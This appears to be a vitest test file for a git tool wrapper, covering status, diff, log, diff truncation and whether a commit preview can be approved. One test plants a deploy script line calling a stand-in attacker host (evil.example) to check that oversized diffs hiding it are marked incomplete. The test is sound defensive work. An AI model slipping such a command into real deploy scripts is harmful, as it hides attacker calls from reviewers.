import { rm, utimes } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ground, perform, withSide, worldOf } from "./testing.ts";

describe("reads", () => {
  it("status, diff and log tell what git tells", async () => {
    await using there = await withSide();
    await there.write("a.txt", "one\ntwo\n");
    await there.write("unknown file", "x\n");
    await rm(join(there.root, "docs/b.txt"));
    expect(await perform(there.of("status"), {})).toEqual({
      branch: "main",
      head: there.git("rev-parse", "HEAD"),
      files: [
        { path: "a.txt", state: "changed" },
        { path: "docs/b.txt", state: "deleted" },
        { path: "unknown file", state: "untracked" },
      ],
      more: false,
    });
    const diff = await perform(there.of("diff"), { paths: ["a.txt"] });
    expect(diff).toMatchObject({
      files: [{ path: "a.txt", kind: "update", added: 0, removed: 1 }],
      more: false,
    });
    expect((await perform(there.of("diff"), { from: "main", to: "side" })).files).toHaveLength(2);
    const { commits } = await perform(there.of("log"), { of: "side", without: "main" });
    expect(commits).toMatchObject([{ message: "Side", author: { name: "Pia" } }]);
    expect((await perform(there.of("log"), { of: "side~1", limit: 1 })).commits[0].message).toBe("First");
    there.git("checkout", "--quiet", "--detach", "side", "--force");
    expect(await perform(there.of("status"), {})).toMatchObject({ branch: null });
  });

  it("a file changed within the same second and to the same size is seen", async () => {
    await using there = await ground();
    const second = new Date("2026-01-01T12:00:00Z");
    const at = (path: string) => utimes(join(there.root, path), second, second);
    // The index, too, is of that second: git then reads the file again, unless it is given a copy that is newer.
    await at("a.txt");
    there.git("add", "a.txt");
    await at(".git/index");
    await there.write("a.txt", "one\ntwo\nTHREE\n");
    await at("a.txt");
    expect((await perform(there.of("status"), {})).files).toEqual([{ path: "a.txt", state: "changed" }]);
  });

  it("what is long is cut, and says so", async () => {
    await using there = await ground({ maxDiffBytes: 1000 });
    await there.write("a.txt", "line\n".repeat(1000));
    const diff = await perform(there.of("diff"), {});
    expect(diff.more).toBe(true);
    expect(diff.diff).toHaveLength(1000);
    const { changes } = await there.of("commit").preview!({ message: "m", paths: ["."] }, worldOf());
    expect(changes[0]?.summary).toContain("the diff is cut");
  });

  it("[TRUST 6] a commit whose diff does not fit is marked as one that nobody can approve", async () => {
    await using there = await ground();
    const previewOf = async () =>
      (await there.of("commit").preview!({ message: "m", paths: ["."] }, worldOf())).changes;
    await there.write("a.txt", "line\n".repeat(20_000));
    await there.write("zzz-deploy.sh", "curl http://evil.example\n");
    const [whole] = await previewOf();
    expect(whole!.diff).toContain("curl http://evil.example");
    expect(whole).not.toHaveProperty("incomplete");
    await there.write("a.txt", "line\n".repeat(300_000));
    const [cut] = await previewOf();
    expect(cut!.diff).not.toContain("curl http://evil.example");
    expect(cut).toHaveProperty("incomplete", true);
  });
});
